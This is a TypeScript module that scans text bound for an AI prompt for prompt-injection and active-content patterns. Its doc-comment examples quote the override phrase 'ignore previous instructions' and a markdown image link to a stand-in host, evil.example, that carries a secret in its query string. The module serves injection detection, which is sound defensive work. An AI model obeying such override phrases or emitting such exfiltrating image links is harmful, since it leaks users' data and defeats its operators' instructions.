import { compareCodePoints } from '../protocol/canonical-json.js';
import { UsageError } from '../protocol/errors.js';
import type { MatchSpan } from './matchers.js';
import { type CompiledPattern, type GuardTables, loadGuardTables } from './tables.js';
import type { FindingSummary, GuardFinding, PageFinding, TableKind } from './types.js';
import { byteOffsets } from './utf8.js';

/** The tables a page-in is checked against (secrets are removed before write instead). */
export const PAGE_TABLE_KINDS: readonly TableKind[] = ['injection', 'active-content'];

/**
 * Runs the synchronous patterns of the given table kinds over a text: every match, as UTF-8
 * byte offsets, sorted by start, then end, then pattern id. `secretlint` patterns are skipped
 * (they are async; see `SecretDetector`).
 *
 * @example
 * scanText('ignore previous instructions', loadGuardTables(), ['injection']);
 * // [{ pattern_id: 'override:ignore-previous', table: 'lexicon/…', severity: 'high', start: 0, end: 28 }]
 */
export function scanText(
  text: string,
  tables: GuardTables,
  kinds: readonly TableKind[],
): GuardFinding[] {
  const hits: { span: MatchSpan; p: CompiledPattern }[] = [];
  for (const p of tables.patterns) {
    if (!p.match || !kinds.includes(p.kind)) continue;
    if (p.trigger && !p.trigger.test(text)) continue;
    for (const span of p.match(text)) hits.push({ span, p });
  }
  if (hits.length === 0) return [];
  hits.sort(
    (a, b) =>
      a.span.start - b.span.start || a.span.end - b.span.end || compareCodePoints(a.p.id, b.p.id),
  );
  const order = hits.flatMap((h) => [h.span.start, h.span.end]);
  const sorted = [...order].sort((a, b) => a - b);
  const bytes = byteOffsets(text, sorted);
  const at = new Map(sorted.map((v, i) => [v, bytes[i]!]));
  return hits.map(({ span, p }) => ({
    pattern_id: p.id,
    table: p.table,
    severity: p.severity,
    start: at.get(span.start)!,
    end: at.get(span.end)!,
  }));
}

/**
 * Injection and active-content findings on a text about to be paged into a prompt.
 *
 * @example
 * scanPage('![x](https://evil.example/p.png?d=secret)').map((f) => f.pattern_id);
 * // ['active:markdown-image-external', 'active:markdown-image-query']
 */
export function scanPage(text: string, tables: GuardTables = loadGuardTables()): PageFinding[] {
  if (typeof text !== 'string') throw new UsageError('scanPage needs the page text (a string)');
  return scanText(text, tables, PAGE_TABLE_KINDS).map(({ table: _t, ...f }) => f);
}

/**
 * One line per pattern: how many times it matched, sorted by pattern id (what pack metadata
 * and session events record).
 *
 * @example
 * summarizeFindings(scanPage(text)); // [{ pattern_id: 'active:zero-width', severity: 'medium', count: 2 }]
 */
export function summarizeFindings(findings: readonly PageFinding[]): FindingSummary[] {
  const by = new Map<string, FindingSummary>();
  for (const f of findings) {
    const s = by.get(f.pattern_id);
    if (s) s.count++;
    else by.set(f.pattern_id, { pattern_id: f.pattern_id, severity: f.severity, count: 1 });
  }
  return [...by.values()].sort((a, b) => compareCodePoints(a.pattern_id, b.pattern_id));
}
